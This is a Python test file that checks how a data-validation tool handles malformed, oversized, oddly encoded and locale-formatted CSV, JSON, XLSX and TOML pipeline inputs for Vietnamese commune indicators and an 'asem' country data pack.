error("json_single_quotes", raw(json.dumps(R).replace('"', "'"), "data.json"))
error("json_utf16", raw(json.dumps(R).encode("utf-16"), "data.json"))
error(
    "json_cp1258",
    raw(cp1258(json.dumps(R, ensure_ascii=False)), "data.json"),
    says="utf-8|encoding",
)
ok(
    "json_huge_string_name",
    as_json([{**R[0], "name": "Xã " + "ă" * 3_000_000}, *R[1:]]),
    {("05802", "HT1"): 83},
)
error(
    "json_huge_string_number",
    as_json([R[0], {**R[1], "population": "9" * 3_000_000}, *R[2:]]),
    row=2,
    column="population",
)
ok(
    "json_unit_code_number",
    as_json([{**r, "unit": int(r["unit"])} for r in R]),
    {("5801", "HT1"): 96},
)
ok(
    "json_lone_surrogate_in_name",
    raw(json.dumps([{**R[0], "name": "@@"}, *R[1:]]).replace('"@@"', '"\\ud800 bad"'), "data.json"),
    {("05801", "HT1"): 96},
)
error(
    "json_lone_surrogate_in_duplicate_unit",
    raw(
        json.dumps([{**R[0], "unit": "X"}, {**R[1], "unit": "X"}]).replace('"X"', '"\\udc80X"'),
        "data.json",
    ),
    row=2,
)
error(
    "json_unknown_key",
    as_json([{**r, "HT9": 1} for r in R]),
    column="HT9",
)
error("json_blank_unit", as_json([R[0], {**R[1], "unit": ""}, *R[2:]]), row=2, column="unit")

# ============================================================================================
# big files (run in a subprocess, as the program runs)
# ============================================================================================


def big_csv(folder: Path) -> list[Path]:
    """A commune file of more than 5 MB (about 50 000 units)."""
    head = ",".join(COMMUNE_HEADER) + "\n"
    parts = [head]
    size = len(head)
    i = 0
    while size < 5 * 2**20:
        line = (
            f"C{i:06d},Xã số {i},commune,058,2024,{1000 + i % 9000},{i % 7},{i % 2},"
            f"{50 + i % 50}.5,{i % 100},{i % 10}.25,{i % 97},{i % 89},{i % 83},{i % 79},"
            f"{i % 73},{i % 71},{i % 67}\n"
        )
        parts.append(line)
        size += len(line.encode())
        i += 1
    return [write(folder, "big.csv", "".join(parts))]


ok(
    "csv_5mb",
    big_csv,
    {
        ("C000000", "HT1"): 50.5,
        ("C000123", "NL1"): 3.25,
        ("C012345", "population"): 1000 + 12345 % 9000,
    },
    subprocess=True,
)


def big_csv_bad_row(folder: Path) -> list[Path]:
    (p,) = big_csv(folder)
    text = p.read_text("utf-8").splitlines()
    cells = text[40_001].split(",")  # line 40 002
    cells[5] = "nhiều"
    text[40_001] = ",".join(cells)
    p.write_text("\n".join(text) + "\n", "utf-8")
    return [p]


error("csv_5mb_one_bad_cell", big_csv_bad_row, row=40_002, column="population", subprocess=True)
error(
    "csv_huge_field",
    as_csv(commune({(1, "name"): "Xã " + "a" * 300_000})),
    row=3,
)
error(
    "csv_10000_bad_rows",
    lambda folder: [
        write(
            folder,
            "many.csv",
            ",".join(COMMUNE_HEADER)
            + "\n"
            + "".join(
                f"U{i},X,commune,058,2024,1,x,1,1,1,1,1,1,1,1,1,1,1\n" for i in range(10_000)
            ),
        )
    ],
    row=2,
    column="NT4",
)
error(
    "csv_5000_unknown_columns",
    as_csv(commune(extra={f"X{k}": ["1"] * 4 for k in range(5000)})),
    column="X0",
)

# ============================================================================================
# pipeline files given to validate (--pipeline): they are user input too
# ============================================================================================
GOOD_PIPELINE = """name = "thử nghiệm"
description = "Chỉ số chuyển đổi số: thử"

[[stages]]
kind = "denominate"

[[stages]]
kind = "normalise"
method = "ratio"
missing = "zero"

[[stages]]
kind = "aggregate"
method = "arithmetic"
levels = { "2" = { method = "points_share" } }
"""


def with_pipeline(name: str, data: bytes | str, build: Build | None = None) -> Build:
    """The commune table, and a pipeline file ``name`` (given as ``--pipeline {dir}/name``)."""

    def make(folder: Path) -> list[Path]:
        write(folder, name, data)
        return (build or as_csv(commune()))(folder)

    return make


def pipeline_case(
    name: str, file: str, data: bytes | str, expect: str = "error", **kw: Any
) -> None:
    args = ("--pipeline", f"{{dir}}/{file}")
    if expect == "ok":
        ok(name, with_pipeline(file, data), {("05801", "HT1"): 96}, args=args, **kw)
    else:
        error(name, with_pipeline(file, data), args=args, files=(file,), **kw)


pipeline_case("pipeline_toml_good", "p.toml", GOOD_PIPELINE, "ok")
pipeline_case("pipeline_toml_bom", "p.toml", codecs.BOM_UTF8 + GOOD_PIPELINE.encode(), "ok")
pipeline_case("pipeline_toml_crlf", "p.toml", GOOD_PIPELINE.replace("\n", "\r\n"), "ok")
pipeline_case("pipeline_toml_utf16", "p16.toml", GOOD_PIPELINE.encode("utf-16"))
pipeline_case("pipeline_toml_cp1258", "p1258.toml", cp1258(GOOD_PIPELINE))
pipeline_case(
    "pipeline_toml_syntax_error",
    "bad.toml",
    GOOD_PIPELINE.replace('kind = "normalise"', "kind = normalise"),
)
pipeline_case(
    "pipeline_toml_unknown_kind",
    "kind.toml",
    GOOD_PIPELINE.replace('"normalise"', '"normalize_all"'),
    says="kind",
)
pipeline_case("pipeline_toml_no_stages", "empty.toml", 'name = "x"\n', says="stage")
pipeline_case(
    "pipeline_toml_weight_as_text",
    "w.toml",
    GOOD_PIPELINE.replace('missing = "zero"', 'per = "một trăm"'),
)
pipeline_case("pipeline_json_list", "p.json", "[1, 2]")
pipeline_case(
    "pipeline_json_nan",
    "p.json",
    '{"stages": [{"kind": "denominate"}, {"kind": "normalise", "method": "ratio", '
    '"missing": "zero", "per": NaN}, {"kind": "aggregate"}]}',
    says="NaN|per",
)
pipeline_case("pipeline_json_deep", "deep.json", '{"stages": ' + "[" * 50_000 + "]" * 50_000 + "}")
pipeline_case("pipeline_binary", "p.toml", PNG)
error(
    "pipeline_missing_file",
    as_csv(commune()),
    args=("--pipeline", "{dir}/nowhere.toml"),
    files=("nowhere.toml",),
)

# ============================================================================================
# the asem pack: the whole sample written other ways must read as the same numbers
# ============================================================================================
_ASEM = sample_rows("asem", "country")
_NUM = re.compile(r"(-?)(\d+)(?:\.(\d+))?")


def _asem_values() -> dict[tuple[str, str], float]:
    header = _ASEM[0]
    u = header.index("uCode")
    text = {"uName", "uCode", "Time", *[h for h in header if h.endswith("_group")]}
    return {
        (r[u], h): (float(v) if v.strip() else NAN)
        for r in _ASEM[1:]
        for h, v in zip(header, r, strict=True)
        if h not in text
    }


ASEM_VALUES = _asem_values()


def _vi(text: str, group: bool = True) -> str:
    if "e" in text.lower():  # 3.6e-05: written out, as a spreadsheet in a vi locale shows it
        text = f"{Decimal(text):f}"
    m = _NUM.fullmatch(text)
    if not m:
        return text
    sign, whole, frac = m.groups()
    if group:
        whole = f"{int(whole):,}".replace(",", ".")
    return sign + whole + ("," + frac if frac else "")


def _en(text: str) -> str:
    m = _NUM.fullmatch(text)
    if not m:
        return text
    sign, whole, frac = m.groups()
    return sign + f"{int(whole):,}" + ("." + frac if frac else "")


def _asem_map(fn: Callable[[str], str]) -> Rows:
    header = _ASEM[0]
    keep = {"uName", "uCode", "Time", *[h for h in header if h.endswith("_group")]}
    return [header] + [
        [v if h in keep else fn(v) for h, v in zip(header, r, strict=True)] for r in _ASEM[1:]
    ]


ASEM = {"pack": "asem", "level": None}
ok(
    "asem_vi_semicolon_grouped",
    as_csv(_asem_map(_vi), "asem-vi.csv", delimiter=";"),
    ASEM_VALUES,
    **ASEM,
)
ok(
    "asem_vi_semicolon_not_grouped",
    as_csv(_asem_map(lambda t: _vi(t, group=False)), "asem-vi.csv", delimiter=";"),
    ASEM_VALUES,
    **ASEM,
)
ok("asem_en_grouped", as_csv(_asem_map(_en), "asem-en.csv"), ASEM_VALUES, **ASEM)
ok(
    "asem_vi_locale_declared",
    as_csv(_asem_map(_vi), "asem-vi.csv", delimiter=";"),
    ASEM_VALUES,
    args=("--locale", "vi"),
    **ASEM,
)
ok(
    "asem_xlsx",
    as_xlsx(Sheet("iData", typed(_ASEM, text=("uName", "uCode"))), name="asem.xlsx"),
    ASEM_VALUES,
    **ASEM,
)
ok(
    "asem_json",
    lambda folder: [
        write(
            folder,
            "asem.json",
            json.dumps(
                [
                    {
                        h: (
                            v
                            if h in ("uName", "uCode") or h.endswith("_group")
                            else (json.loads(v) if v else None)
                        )
                        for h, v in zip(_ASEM[0], r, strict=True)
                    }
                    for r in _ASEM[1:]
                ]
            ),
        )
    ],
    ASEM_VALUES,
    **ASEM,
)
ok(
    "asem_utf16_tab",
    as_csv(_ASEM, "asem.txt", delimiter="\t", encoding="utf-16-le", bom=codecs.BOM_UTF16_LE),
    ASEM_VALUES,
    **ASEM,
)
_NEG = next(
    (i, h)
    for i, r in enumerate(_ASEM[1:])
    for h, v in zip(_ASEM[0], r, strict=True)
    if v.startswith("-")
)
ok(
    "asem_unicode_minus",
    as_csv(edit(_ASEM, {_NEG: "\u2212" + _ASEM[_NEG[0] + 1][_ASEM[0].index(_NEG[1])][1:]})),
    {
        (_ASEM[_NEG[0] + 1][_ASEM[0].index("uCode")], _NEG[1]): ASEM_VALUES[
            (_ASEM[_NEG[0] + 1][_ASEM[0].index("uCode")], _NEG[1])
        ]
    },
    **ASEM,
)
error(
    "asem_one_decimal_comma",
    as_csv(edit(_ASEM, {(2, "LPI"): "3,5"})),
    says="two ways|both",
    **ASEM,
)
error(
    "asem_percent_in_score_column",
    as_csv(edit(_ASEM, {(2, "LPI"): "75%"})),
    row=4,
    column="LPI",
    **ASEM,
)
error(
    "asem_unknown_column",
    as_csv([[*_ASEM[0], "Extra"], *[[*r, "1"] for r in _ASEM[1:]]]),
    column="Extra",
    **ASEM,
)
error(
    "asem_text_in_number",
    as_csv(edit(_ASEM, {(10, "Flights"): "không rõ"})),
    row=12,
    column="Flights",
    **ASEM,
)
error(
    "asem_missing_indicator",
    as_csv([[v for h, v in zip(_ASEM[0], r, strict=True) if h != "LPI"] for r in _ASEM]),
    column="LPI",
    **ASEM,
)


# ============================================================================================
# where the code does not (yet) do what the user needs: each case runs as xfail(strict=True)
# ============================================================================================
KNOWN_FAULTS: dict[str, str] = {}
_unknown = set(KNOWN_FAULTS) - {c.name for c in CASES}
assert not _unknown, _unknown
CASES = [replace(c, xfail=KNOWN_FAULTS[c.name]) if c.name in KNOWN_FAULTS else c for c in CASES]
